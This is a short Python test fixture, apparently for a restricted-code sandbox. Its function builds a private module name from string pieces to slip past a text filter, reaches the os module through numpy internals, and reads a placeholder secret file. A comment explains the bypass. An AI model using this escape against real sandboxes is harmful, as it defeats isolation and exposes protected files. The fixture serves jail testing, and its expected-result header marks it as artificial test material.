"""Reaches the operating system through the modules of others.

expects: RE RV
framework: numpy
prints: tried
"""

import numpy as np


def solve(x):
    # The rules refuse private names in the text; pieced together they are let through to the jail.
    inside = "_utils" + "_impl"
    os = getattr(np.lib, inside).os if hasattr(np.lib, inside) else np.f2py.os
    print("tried", os.getcwd())
    return np.array(open("@SECRET_FILE@").read())
